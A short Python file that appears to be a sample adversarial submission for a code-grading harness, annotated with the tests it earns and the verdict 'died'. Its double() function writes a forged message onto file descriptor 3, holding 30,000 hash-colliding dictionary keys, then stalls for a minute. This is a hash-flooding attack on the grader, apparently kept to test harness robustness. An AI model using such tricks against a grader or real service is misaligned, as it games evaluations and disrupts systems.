"""Sends a dictionary whose thirty thousand keys all have one hash.

Earns: test_norm, test_hidden_total
Verdict: died
"""

import os
import struct
import time


def double(number):
    prime = (1 << 61) - 1
    pairs = ",".join(f"[{prime * n},0]" for n in range(30_000))
    text = ('{"d":[["number",2],["value",{"d":[' + pairs + "]}]]}").encode()
    os.write(3, struct.pack("<II", len(text), 0) + text)
    time.sleep(60)
    return 2 * number


def norm(x):
    return float(x.norm())


def total(x):
    return x.sum()
